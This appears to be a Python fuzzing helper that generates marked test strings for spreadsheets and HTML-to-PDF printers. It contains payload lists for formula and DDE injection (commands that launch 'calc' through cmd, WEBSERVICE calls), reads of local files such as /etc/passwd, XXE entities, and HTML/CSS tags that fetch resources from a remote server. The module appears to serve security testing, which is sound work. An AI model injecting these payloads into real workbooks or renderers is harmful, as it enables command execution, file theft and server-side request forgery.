"""Texts that a spreadsheet or a printer takes for more than text. Each ends with a mark by which it is found again."""

import random

MARK = "注{}入"
BEGINNINGS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/","甲")',
    '=WEBSERVICE("http://127.0.0.1:9/")',
    '=IMPORTXML("http://127.0.0.1:9/","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=SUM(A1:A9)",
    "=A1",
    "{=SUM(A1)}",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "|calc",
    "%0A=1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\u2028=1+1",
    "\u00a0=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "'=1+1",
    '"=1+1"',
    ";=1+1",
    ",=1+1",
    '="a"&"b"',
    "=1/0",
    "=\n1",
    "= 1",
    "#REF!",
    "#N/A",
    "#DIV/0!",
    "TRUE",
    "1e5",
    "0x10",
    "00012",
    "2026-01-01",
    "12:30",
    "1/2",
    "(1)",
    "50%",
    "￥5",
    "1,000",
    "http://127.0.0.1:9/x",
    "https://evil.example",
    "mailto:a@b.c",
    "file:///etc/passwd",
    "\\\\host\\share",
    "ftp://a/",
    "_x0041_",
    "_x000D_",
    "&#61;1",
    "&lt;f&gt;1&lt;/f&gt;",
    "</t></is></c><c><f>1+1</f></c>",
    "<f>1</f>",
    "]]>",
    "<![CDATA[",
    "&amp;",
    "${1+1}",
    "{{1+1}}",
    "[1]Sheet1!A1",
    "='C:\\[x.xlsx]a'!A1",
    "R1C1",
    "𠮷=1",
    "🀄=1",
    "\u202e=1+1",
)
# ``{far}`` is an address of the drill's own server, ``{file}`` a file that nobody may read.
VECTORS = (
    '<link rel=attachment href="{file}">',
    '<a rel=attachment href="{file}">甲</a>',
    '<link rel=attachment href="{far}">',
    '<a rel=attachment href="{far}">甲</a>',
    '<img src="{far}">',
    '<img src="{file}">',
    '<img srcset="{far} 1x">',
    '<object data="{file}"></object>',
    '<object data="{far}"></object>',
    '<embed src="{far}">',
    '<iframe src="{file}"></iframe>',
    '<link rel=stylesheet href="{far}">',
    '<link rel=stylesheet href="{file}">',
    "<style>@import url({far});</style>",
    "<style>body{{background:url({far})}}</style>",
    '<p style="background:url({far})">',
    '<p style="list-style-image:url({far})">',
    "<style>@font-face{{font-family:x;src:url({far})}} p{{font-family:x}}</style><p>甲</p>",
    '<input type=image src="{far}">',
    "<style>@font-face{{font-family:x;src:url({file})}} p{{font-family:x}}</style><p>甲</p>",
    '<base href="{far}"><img src="x">',
    "<style>p::before{{content:url({far})}}</style><p>甲</p>",
    '<svg><image href="{far}" width="9" height="9"/></svg>',
    '<svg><image href="{file}" width="9" height="9"/></svg>',
    '<svg><use href="{far}#a"/></svg>',
    '<svg><style>@import "{far}";</style></svg>',
    '<meta http-equiv=refresh content="0;url={far}">',
    '<p style="content:attr(x url)" x="{far}">',
    '<video poster="{far}"></video>',
    "<style>@page{{background:url({far})}}</style>",
    "<style>@color-profile x{{src:url({far})}}</style>",
    '<img src="data:image/svg+xml,&lt;svg xmlns=%27http://www.w3.org/2000/svg%27&gt;'
    '&lt;image href=%27{far}%27/&gt;&lt;/svg&gt;">',
    '<!DOCTYPE x [<!ENTITY y SYSTEM "{file}">]><x>&y;</x>',
    '"><img src="{far}">',
    "'><link rel=attachment href='{file}'>",
    "{far}",
    "{file}",
    "url({far})",
    '\\"}}</style><img src="{far}">',
    "</title><link rel=attachment href={file}>",
)


class Odd:
    """Makes texts for a workbook; keeps what it made by number."""

    def __init__(self, chance: random.Random) -> None:
        self.chance, self.made, self.number = chance, {}, 0

    def __call__(self, room: int | None) -> str:
        self.number += 1
        mark = MARK.format(self.number)
        start = BEGINNINGS[self.number % len(BEGINNINGS)]
        if self.chance.random() < 0.4:
            start = self.chance.choice("=+-@\t\n＝{'") + self._signs()
        text = start[: max(0, (room or 1000) - len(mark))] + mark
        self.made[self.number] = text
        return text

    def _signs(self) -> str:
        """Anything but lone surrogates, which no database takes."""
        points = [
            self.chance.choice((self.chance.randrange(1, 0x500), self.chance.randrange(0x2000, 0x2FA20)))
            for _ in range(8)
        ]
        return "".join(chr(point) for point in points if not 0xD800 <= point < 0xE000)


class Fetching:
    """Makes texts for a printer."""

    def __init__(self, far: str, file: str) -> None:
        self.far, self.file, self.number = far, file, 0

    def __call__(self, room: int | None) -> str:
        for _ in VECTORS:
            self.number += 1
            text = self.vector(self.number) + MARK.format(self.number)
            if room is None or len(text) <= room:
                return text
        return MARK.format(self.number)[: room or None]

    def vector(self, number: int) -> str:
        return VECTORS[number % len(VECTORS)].format(far=f"{self.far}/{number}", file=self.file)
